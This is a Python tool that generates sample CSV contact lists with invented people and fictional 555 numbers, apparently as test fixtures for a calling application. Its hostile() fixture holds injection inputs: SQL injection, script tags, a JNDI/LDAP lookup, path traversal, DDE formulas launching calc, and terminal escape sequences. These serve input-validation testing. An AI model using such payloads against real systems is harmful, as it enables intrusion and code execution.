"""Writes ``sample_lists/`` anew: ``python tools/make_sample_lists.py [FOLDER]``.

The lists are committed; this script is how they came to be, and a test holds the two together. All people are
invented and all numbers are NPA-555-01xx, which is set aside for fiction in every area code. The last two digits 10
to 23 fix what the fake backend's callee does; the big lists hold only a handful of those, so that the scenario decides.
"""

from __future__ import annotations

import csv
import io
import random
import sys
from collections.abc import Iterable, Iterator, Sequence
from pathlib import Path


def words(*lines: str) -> list[str]:
    return " ".join(lines).split()


AREA_CODES = {
    "America/New_York": words("212 617 305 404 215 216 202 704 860 207 919 412"),
    "America/Chicago": words("312 713 214 512 612 414 314 504 615 205 405 515"),
    "America/Denver": words("303 801 505 406 307"),
    "America/Boise": ["208"],
    "America/Phoenix": words("602 480 520"),
    "America/Los_Angeles": words("213 415 619 206 503 702 916 360"),
    "America/Anchorage": ["907"],
    "Pacific/Honolulu": ["808"],
}

FIXED = range(10, 24)
"""Last two digits that fix the outcome."""

GIVEN = words(
    "Aaliyah Abebe Adaeze Aiko Alejandra Amara Amit Ana Anders Anjali Ayşe Beatriz Björn Camila Chiara Chidi Dalia",
    "Darnell Deepak Dolores Eero Elif Emeka Esperanza Fatima Femi François Grace Hana Hiroshi Ifeoma Ingrid Isaac",
    "Jamal Jiwoo João José Kalani Keoni Kofi Lakshmi Leilani Linh Lupe Mahmoud Malia Marisol Mehmet Mei Miguel Minh",
    "Nadia Naomi Ngozi Nizhoni Noor Olga Olumide Oyelaran Pavel Priya Quang Rafael Rosa Ruth Sadia Salma Samuel Sanjay",
    "Saoirse Siobhán Søren Tadesse Tala Thanh Tomás Tyrone Uchenna Valentina Wanjiru Wei Xiomara Yael Yara Yuki Yusuf",
    "Zainab Zoë Žofia",
)

FAMILY = words(
    "Abdi Abrams Achebe Aguilar Ahmed Akana Álvarez Andersen Bajwa Baptiste Begay Bekele Bergström Castillo Chaudhry",
    "Chavez Chen Cohen Costa Dang Delgado Demir Diaz Diop Dubois Eze Fernández Fitzgerald Flores Gonçalves Goldberg",
    "Gupta Gutiérrez Haddad Hansen Hassan Hernández Ho Ibrahim Ivanova Iyer Jackson Johansson Kahale Kaya Kekoa Khan",
    "Kim Kowalski Kozlov Lam Lefèvre Li Lindqvist López Mahoe Martínez Mbeki Menon Moreau Müller Nakamura Nguyễn Nowak",
    "Núñez O’Brien Obi Okafor Öztürk Park Patel Pérez Petrova Pham Quispe Ramírez Rao Rivera Robinson Rossi Saito",
    "Sánchez Santos Schäfer Silva Singh Sokolov Suzuki Tanaka Tesfaye Torres Tran Tsosie Vargas Volkov Walker",
    "Washington Wójcik Wong Yamada Yazzie Yılmaz Zhang Zhou",
)

IN_OWN_SCRIPT = (
    "李娜",
    "王伟",
    "김지우",
    "佐藤 美咲",
    "محمد حداد",
    "יעל כהן",
    "Ольга Иванова",
    "प्रिया शर्मा",
    "สมชาย ใจดี",
)

LANGUAGES = ("en", "en", "en", "en", "en", "en", "es", "es", "es", "zh", "vi", "ko", "ar", "hi", "tl")


class Numbers:
    """Fictional numbers, none twice."""

    def __init__(self, chance: random.Random) -> None:
        self._chance = chance
        self._used: set[str] = set()

    def free(self, zone: str) -> str:
        """Ten digits in an area code of ``zone``, which behave as the scenario says."""
        while True:
            ending = self._chance.randrange(100)
            number = f"{self._chance.choice(AREA_CODES[zone])}55501{ending:02}"
            if ending not in FIXED and number not in self._used:
                self._used.add(number)
                return number

    def fixed(self, area_code: str, ending: int) -> str:
        number = f"{area_code}55501{ending:02}"
        self._used.add(number)
        return number


def people(chance: random.Random) -> Iterator[str]:
    """Names, none twice."""
    used: set[str] = set(IN_OWN_SCRIPT)
    while True:
        name = f"{chance.choice(GIVEN)} {chance.choice(FAMILY)}"
        if name not in used:
            used.add(name)
            yield name


def spread(chance: random.Random, shares: dict[str, int]) -> list[str]:
    """Zones in random order, each as often as its share says."""
    zones = [zone for zone, count in shares.items() for _ in range(count)]
    chance.shuffle(zones)
    return zones


def csv_text(rows: Iterable[Sequence[str]], delimiter: str = ",") -> str:
    text = io.StringIO()
    csv.writer(text, delimiter=delimiter, lineterminator="\n").writerows(rows)
    return text.getvalue()


def clinic_reminders() -> bytes:
    """300 patients in every zone of the fifty states; a few numbers with a fixed outcome."""
    chance = random.Random("clinic_reminders")
    numbers, names = Numbers(chance), people(chance)
    shares = {
        "America/New_York": 103,
        "America/Chicago": 72,
        "America/Denver": 30,
        "America/Boise": 6,
        "America/Phoenix": 20,
        "America/Los_Angeles": 45,
        "America/Anchorage": 8,
        "Pacific/Honolulu": 8,
    }
    fixed = [("212", 10), ("617", 15), ("305", 11), ("404", 14), ("312", 13), ("713", 20), ("215", 17), ("216", 12)]
    digits = [numbers.fixed(area, ending) for area, ending in fixed]
    digits += [numbers.free(zone) for zone in spread(chance, shares)]
    chance.shuffle(digits)
    doctors = [f"Dr. {chance.choice(FAMILY)}" for _ in range(8)]
    rows: list[Sequence[str]] = [("phone", "name", "appointment", "doctor", "language")]
    for position, number in enumerate(digits):
        name = IN_OWN_SCRIPT[position // 31] if position % 31 == 30 else next(names)
        day = chance.choice(("Monday", "Tuesday", "Wednesday", "Thursday", "Friday"))
        hour, minute = chance.randrange(8, 17), chance.choice(("00", "15", "30", "45"))
        shape = f"({number[:3]}) {number[3:6]}-{number[6:]}"
        rows.append((shape, name, f"{day} {hour}:{minute}", chance.choice(doctors), chance.choice(LANGUAGES)))
    return csv_text(rows).encode()


def survey_small() -> bytes:
    """30 people, names in two columns, numbers with their country code: the list for a first look."""
    chance = random.Random("survey_small")
    numbers, names = Numbers(chance), people(chance)
    shares = {"America/New_York": 14, "America/Chicago": 8, "America/Denver": 3, "America/Los_Angeles": 5}
    rows: list[Sequence[str]] = [("First Name", "Last Name", "Mobile Number", "Last Purchase", "Language")]
    for zone in spread(chance, shares):
        number = numbers.free(zone)
        given, family = next(names).split(" ")
        bought = f"2026-{chance.randrange(1, 10):02}-{chance.randrange(1, 29):02}"
        rows.append((given, family, f"+1-{number[:3]}-{number[3:6]}-{number[6:]}", bought, chance.choice(LANGUAGES)))
    return csv_text(rows).encode()


def arrears() -> bytes:
    """120 customers, all of them where the morning comes late; as Excel writes "CSV UTF-8" in half the world."""
    chance = random.Random("arrears")
    numbers, names = Numbers(chance), people(chance)
    shares = {
        "America/Denver": 30,
        "America/Boise": 6,
        "America/Phoenix": 14,
        "America/Los_Angeles": 48,
        "America/Anchorage": 4,
        "Pacific/Honolulu": 18,
    }
    rows: list[Sequence[str]] = [("account", "customer", "telephone", "time zone", "amount due", "days late")]
    for position, zone in enumerate(spread(chance, shares)):
        number = numbers.free(zone)
        amount = f"{chance.randrange(18, 940)},{chance.randrange(100):02}"
        rows.append((f"A-{4100 + position}", next(names), number, zone, amount, str(chance.randrange(10, 120))))
    return "\ufeff".encode() + csv_text(rows, ";").replace("\n", "\r\n").encode()


NUMBERS = (
    (10, "answered", "a person answers and talks to the agent"),
    (11, "voicemail", "a machine with a greeting of several seconds"),
    (12, "voicemail", "answered, then silence: a machine by the silence rule"),
    (13, "no_answer", "rings until the carrier gives up (SIP 408)"),
    (14, "busy", "busy (SIP 486); called again after 15, 30, 60 minutes"),
    (15, "rejected", "the callee declines (SIP 603 Decline): an opt-out"),
    (16, "blocked", "the network blocks the caller ID (SIP 603 Network Blocked): no opt-out"),
    (17, "bad_number", "the number does not exist (SIP 404)"),
    (18, "no_answer", "phone switched off or out of reach (SIP 480)"),
    (19, "trunk_fault", "the carrier is out of service (SIP 503)"),
    (20, "answered", "a person answers and asks not to be called again: an opt-out"),
    (21, "no_answer", "never answers: rings for the whole ring time-out"),
    (22, "answered", "a person talks for a long time"),
    (23, "answered", "a person answers and hangs up at once"),
)


def numbers() -> bytes:
    """One row for each outcome that the fake backend can be made to give."""
    names = people(random.Random("numbers"))
    rows: list[Sequence[str]] = [("phone", "name", "outcome", "what happens")]
    rows += [(f"+121255501{ending}", next(names), outcome, story) for ending, outcome, story in NUMBERS]
    return csv_text(rows).encode()


HOSTILE_HEADER = ("expected", "phone", "name", "timezone", "latitude", "longitude", "note")

HOSTILE_NAMES = (
    ("[/bold][red on white]Ann[/]", "console markup"),
    ("[@click=app.quit]Click me[/]", "console markup with an action"),
    ("<script>alert(1)</script>", "HTML"),
    ("{{7*7}} ${jndi:ldap://example.invalid/a}", "templates"),
    ("%s%s%n {0} {name}", "format strings"),
    ("Robert'); DROP TABLE contacts;--", "SQL"),
    ("../../etc/passwd", "a path"),
    ("\x1b]52;c;ZXZpbA==\x07Carla", "writes to the clipboard (OSC 52)"),
    ("\x1b[2J\x1b[H\x1b[31mDan", "clears the screen"),
    ("\x1b]0;owned\x1b\\Eve", "sets the window title"),
    ("\x9b31mFay\x90q\x9c", "escape sequences in one byte (C1)"),
    ("Gus\x07\x08\x08\x08\x7f", "bell, backspaces, delete"),
    ("Hal\x00Hal", "NUL"),
    ('=HYPERLINK("http://example.invalid","Ida")', "formula"),
    ("+1+1|' /C calc'!A0", "formula with DDE"),
    ("-2+3", "formula"),
    ("@SUM(A1:A9)", "formula"),
    ("\t=1+1", "formula behind a tab"),
    ("＝1+1", "formula with a full-width sign"),
    ("Jo\u202e4310-555 )212(", "right-to-left override"),
    ("\u2066Kim\u2069 \u200f\u200eLi", "bidi isolates and marks"),
    ("L" + "\u0335\u0321\u0322\u0327\u0328\u0334" * 8 + "iz", "combining marks without end"),
    ("\u0301\u0301\u0301", "combining marks over nothing"),
    ("Max" + "\u200d" * 50 + "\u200b\ufeff\u2060", "joiners and zero-width spaces"),
    ("Ned " * 2500, "10 kB of name"),
    ("👨‍👩‍👧‍👦 🏳️‍🌈 🇺🇸", "emoji of several characters"),
    ("王小明 محمد ยายี", "wide letters, right to left, marks"),
    ('Olive "Ollie" O\'Hara, Jr.; | x', "quotes and every delimiter"),
    ("Pat\nQuinn\r\nRoe", "line breaks"),
    ("Sam\u2028Sue\u0085Tom", "other line breaks"),
    ("", "no name"),
    (" \u00a0\u3000 ", "a name of spaces"),
    ("\U000e0041\U000e0042Uma\ue000\ufff9", "tags, private use, annotations"),
)

HOSTILE_NUMBERS = (
    ("２１２５５５０１４３", "full-width digits"),
    ("٢١٢٥٥٥٠١٤٤", "Arabic digits"),
    ("(212) 555-0145 ext. 12", "an extension"),
    ("212.555.0146x9", "an extension"),
    ("tel:+1-212-555-0147", "a tel: URI"),
    ("212\u00a0555\u20110148", "no-break space and hyphen"),
    ("\u202d2125550149\u202c", "wrapped in bidi marks by an address book"),
    ("'2125550150", "a spreadsheet's apostrophe"),
    ("2125550151.0", "through a numeric column"),
    ("Evenings: 212 555 0152", "a word before it"),
)

HOSTILE_REJECTS = (
    ("no_number", "", "", "", "", "no number"),
    ("no_number", "n/a", "", "", "", "no number, in words"),
    ("not_a_number", "call me", "", "", "", "no number at all"),
    ("not_a_number", "2.125550153e+09", "", "", "", "a spreadsheet's rounding"),
    ("not_a_number", "2.12556E+09", "", "", "", "a spreadsheet's rounding, digits lost"),
    ("not_a_number", "########", "", "", "", "a column that was too narrow"),
    ("not_a_number", "#REF!", "", "", "", "a spreadsheet's error"),
    ("not_a_number", "212 555 HOME", "", "", "", "letters"),
    ("not_a_number", "212 555 0153 or 212 555 0154", "", "", "", "two numbers"),
    ("not_a_number", "=cmd|' /C calc'!A0", "", "", "", "a formula"),
    ("not_a_number", "\x1b]52;c;ZXZpbA==\x07", "", "", "", "an escape sequence"),
    ("invalid_number", "555-0153", "", "", "", "no area code"),
    ("invalid_number", "212 555 015", "", "", "", "too short"),
    ("invalid_number", "2125550153" * 3, "", "", "", "too long"),
    ("invalid_number", "(000) 555-0153", "", "", "", "no such area code"),
    ("invalid_number", "+999 555 0153", "", "", "", "no such country"),
    ("not_callable", "800-555-0199", "", "", "", "toll-free"),
    ("not_callable", "900-555-0153", "", "", "", "premium rate"),
    ("not_callable", "500-555-0153", "", "", "", "a personal number"),
    ("bad_zone", "212 555 0153", "America/New_Yrok", "", "", "a slip"),
    ("bad_zone", "212 555 0153", "EST", "", "", "an abbreviation"),
    ("bad_zone", "212 555 0153", "Mars/Olympus_Mons", "", "", "no zone of this planet"),
    ("bad_zone", "212 555 0153", "../../etc/localtime", "", "", "a path"),
    ("bad_coordinates", "212 555 0153", "", "91", "0", "beyond the pole"),
    ("bad_coordinates", "212 555 0153", "", "40.7", "", "half a point"),
    ("bad_coordinates", "212 555 0153", "", "nan", "inf", "no numbers"),
    ("bad_coordinates", "212 555 0153", "", "0", "0", "nowhere"),
)


def hostile() -> bytes:
    """Everything nasty that a list can hold; the first column says what each row should become."""
    rows: list[Sequence[str]] = [HOSTILE_HEADER]
    for position, (name, note) in enumerate(HOSTILE_NAMES):
        rows.append(("contact", f"303-555-01{position + 30:02}", name, "", "", "", note))
    rows += [("contact", phone, "Vera", "", "", "", note) for phone, note in HOSTILE_NUMBERS]
    rows += [
        ("contact", "212-555-0160", "Wim", "america/denver", "", "", "a zone in lower case"),
        ("duplicate", "+1 (212) 555-0160", "Wim", "", "", "", "the same number, written otherwise"),
        ("duplicate", "12125550160", "Wim", "Mars/Olympus_Mons", "", "", "once more, and wrong besides"),
    ]
    for fault, phone, zone, latitude, longitude, note in HOSTILE_REJECTS:
        rows.append((fault, phone, "\x1b[31mXena[/]", zone, latitude, longitude, note))
    rows += [
        ("contact", "212-555-0161", "Yan"),
        ("contact", "212-555-0162", "Zed", "", "", "", "more cells than columns", "one", "two"),
        ("wrong_columns",),
        ("wrong_columns", "Smith", " John", "212-555-0163", "", "", "", "a comma without quotation marks"),
        ("wrong_columns", "212-555-0164", "212-555-0165", "", "", "", "", "two numbers in a shifted row"),
        (),
        ("", "", "", "", "", "", ""),
    ]
    unclosed = b'wrong_columns,212-555-0166,"Zoe,,,,a quotation mark that is never closed\n'
    after = csv_text([("contact", "212-555-0167", "the last row is not swallowed", "", "", "", "")]).encode()
    return csv_text(rows).encode() + unclosed + after


LISTS = {
    "clinic_reminders.csv": clinic_reminders,
    "survey_small.csv": survey_small,
    "arrears.csv": arrears,
    "numbers.csv": numbers,
    "hostile.csv": hostile,
}


def write_all(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name, make in LISTS.items():
        (folder / name).write_bytes(make())


if __name__ == "__main__":
    write_all(Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).parent.parent / "sample_lists")
